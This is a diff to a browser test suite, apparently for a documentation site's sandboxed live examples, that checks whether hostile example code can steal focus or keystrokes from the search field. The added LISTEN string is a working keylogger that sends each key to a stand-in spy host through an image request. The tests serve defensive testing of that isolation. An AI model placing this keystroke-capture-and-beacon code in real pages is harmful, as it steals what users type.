@@ -39,9 +39,13 @@ const thefts: Readonly<Record<string, string>> = {
   'a captured pointer': 'document.documentElement.setPointerCapture(1);',
 };
 
-/** Tells the spy of every key that reaches the example. */
+/** Tells the page and the spy of every key that reaches the example. */
 const LISTEN =
-  "addEventListener('keydown', (event) => { console.log('STOLEN ' + event.key); }, true);";
+  "addEventListener('keydown', (event) => { console.log('STOLEN ' + event.key); new Image().src = 'SPY/stolen?' + event.key; }, true);";
+
+/** Runs hostile statements that know where the spy is. */
+const spyOn = (page: Page, statements: string) =>
+  attack(page, statements.replaceAll('SPY', spy.origin));
 
 /** Opens the frame's own door from inside, then tries a way every 40 ms, whatever it throws. */
 const insist = (statements: string) => `${LISTEN}
@@ -73,7 +77,7 @@ for (const [way, statements] of Object.entries(thefts)) {
   test(`an example cannot take the focus from the search by ${way}`, async ({ page }) => {
     const stolen = hearStolen(page);
     await openTarget(page);
-    await attack(page, insist(statements));
+    await spyOn(page, insist(statements));
     await expectTriedOrStopped(page);
     await page.getByRole('button', { name: /검색/ }).first().click();
     const field = page.getByRole('combobox');
@@ -82,6 +86,7 @@ for (const [way, statements] of Object.entries(thefts)) {
     await expect(field).toHaveValue('secret words');
     await expect(field).toBeFocused();
     expect(stolen).toEqual([]);
+    expect(spy.heard).toEqual([]);
   });
 }
 
@@ -91,7 +96,7 @@ test('an example that takes the focus while its reader types is ended, and gives
   const stolen = hearStolen(page);
   await openTarget(page);
   const theft = "document.documentElement.inert = false; document.querySelector('input').focus();";
-  await attack(page, `${LISTEN} setTimeout(() => { ${theft} }, 1500);`);
+  await spyOn(page, `${LISTEN} setTimeout(() => { ${theft} }, 1500);`);
   await expectTried(page);
   await page.getByRole('button', { name: /검색/ }).first().click();
   const field = page.getByRole('combobox');
@@ -100,6 +105,7 @@ test('an example that takes the focus while its reader types is ended, and gives
   await expect(field).toBeFocused();
   // The key that is on its way when the focus goes is the most there is to be had.
   expect(stolen.length).toBeLessThanOrEqual(1);
+  expect(spy.heard, 'nothing leaves the frame').toEqual([]);
 });
 
 test('an honest example with a field that wants the focus runs on without it', async ({ page }) => {
@@ -118,7 +124,7 @@ export default function Honest() { return <TextInput autoFocus aria-label="먼�
 test('a mouse that rests on a phone opens it to nothing', async ({ page }) => {
   const stolen = hearStolen(page);
   await openTarget(page);
-  await attack(page, `${LISTEN} document.querySelector('input').focus();`);
+  await spyOn(page, `${LISTEN} document.querySelector('input').focus();`);
   await expectTried(page);
   await phone(page, target.name).locator('[data-screen]').hover();
   await page.keyboard.type('abc', { delay: 30 });
